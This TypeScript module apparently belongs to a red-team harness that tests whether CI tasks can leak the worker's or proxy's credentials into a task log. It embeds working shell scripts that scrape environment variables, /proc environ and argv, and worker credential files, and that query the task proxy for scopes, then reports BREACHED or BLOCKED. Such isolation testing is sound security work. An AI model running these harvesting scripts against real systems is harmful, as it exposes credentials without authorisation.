import { runRedTeamTask, type FinishedTask } from '../red-team-tasks.js';
import { findTokens } from '../token-scan.js';
import { inconclusive, result, type AttackInfo } from '../verdicts.js';
import type { AttackResult, ExerciseContext, Goal } from '../types.js';

const attack = (id: string, title: string, invariants: string[]): AttackInfo => ({
  goal: 2,
  id: `2.${id}`,
  title,
  invariants,
});

/**
 * Bounded everywhere: at most 5000 processes, 4 KiB of each argv and 16 KiB of each file;
 * as an attacker would, it keeps only the environment entries and command lines worth a look.
 */
const LOOK_AROUND = String.raw`
echo "== environment"; env
echo "== processes"
n=0
for p in /proc/[0-9]*; do
  n=$((n+1)); [ "$n" -gt 5000 ] && break
  line=$(head -c 4096 "$p/cmdline" 2>/dev/null | tr '\0' ' ')
  case "$line" in *bulwark*|*node*|*worker*|*taskcluster*|*postgres*) echo "-- $p: $line" ;; esac
  head -c 16384 "$p/environ" 2>/dev/null | tr '\0' '\n' | grep -aiE 'token|secret|key|credential|password|taskcluster' | head -n 50
done
echo "== worker files"
files=""
for p in /proc/[0-9]*; do
  set -- $(head -c 4096 "$p/cmdline" 2>/dev/null | tr '\0' ' ')
  while [ "$#" -gt 1 ]; do
    case "$1" in
      --config) files="$files $2" ;;
      --data-dir) files="$files $2/root-credentials.json $2/worker/credentials.json $2/worker/config.json" ;;
    esac
    shift
  done
done
for f in $files /etc/bulwark/worker-credentials.json /var/lib/bulwark-worker/credentials.json; do
  [ -r "$f" ] && { echo "-- $f"; head -c 16384 "$f"; echo; }
  c=$(head -c 16384 "$f" 2>/dev/null | sed -n 's/.*"credentialsFile" *: *"\([^"]*\)".*/\1/p')
  [ -n "$c" ] && [ -r "$c" ] && { echo "-- $c"; head -c 16384 "$c"; echo; }
done
true
`;

/** Answers of the proxy that carry credentials for the API (object uploads, current scopes). */
const ASK_THE_PROXY = String.raw`
P="$TASKCLUSTER_PROXY_URL"
exp=$(date -u -d '+1 hour' +%Y-%m-%dT%H:%M:%S.000Z)
echo "== createArtifact object"
curl -s -m 10 -X POST -H 'content-type: application/json' \
  -d "{\"storageType\":\"object\",\"contentType\":\"text/plain\",\"expires\":\"$exp\"}" \
  "$P/api/queue/v1/task/$TASK_ID/runs/$RUN_ID/artifacts/public/exercise.txt"; echo
echo "== current scopes"; curl -s -m 10 "$P/api/auth/v1/scopes/current"; echo
echo "== task"; curl -s -m 10 "$P/api/queue/v1/task/$TASK_ID"; echo
true
`;

/**
 * Goal 2: display the proxy's or the worker's token in a task log. The task looks
 * everywhere it can; then the exercise reads the log and looks for any credential.
 */
export const goal2: Goal = {
  number: 2,
  title: 'Display the proxy’s or the worker’s token in a task log',
  implemented: true,
  async run(context) {
    const results: AttackResult[] = [];
    const around = attack(
      'env-proc-files',
      'print the environment, every visible process’s environ and argv, and worker files',
      ['S1', 'S2', 'S8'],
    );
    results.push(
      await scanTask(context, around, { name: 'look for credentials', script: LOOK_AROUND }),
    );
    const proxy = attack(
      'proxy-answers',
      'print what the proxy answers (object uploads, scopes, task)',
      ['S2'],
    );
    results.push(
      await scanTask(context, proxy, {
        name: 'ask the proxy for credentials',
        script: ASK_THE_PROXY,
        proxy: true,
      }),
    );
    return results;
  },
};

async function scanTask(
  context: ExerciseContext,
  info: AttackInfo,
  spec: { name: string; script: string; proxy?: boolean },
): Promise<AttackResult> {
  let task: FinishedTask;
  try {
    task = await runRedTeamTask(context, { ...spec, maxRunTime: 60 });
  } catch (err) {
    return inconclusive(
      info,
      `the task could not be created: ${(err as Error).message.split('\n')[0] ?? ''}`,
    );
  }
  if (task.log === undefined) {
    return inconclusive(info, `the task's log could not be read (${task.state})`, {
      taskId: task.taskId,
    });
  }
  const findings = findTokens(task.log, context.knownTokens);
  if (findings.length > 0) {
    return result(info, 'BREACHED', `the log shows ${findings.length} credential(s)`, {
      taskId: task.taskId,
      logExcerpt: findings.map((f) => `${f.kind}: ${f.line}`).join('\n'),
    });
  }
  if (!task.log.includes('== ')) {
    return inconclusive(info, `the task's script never ran (${task.state})`, {
      taskId: task.taskId,
      logExcerpt: task.log.slice(-800),
    });
  }
  return result(info, 'BLOCKED', `no credential in ${task.log.length} bytes of log`, {
    taskId: task.taskId,
    logExcerpt: task.log.slice(0, 600),
  });
}
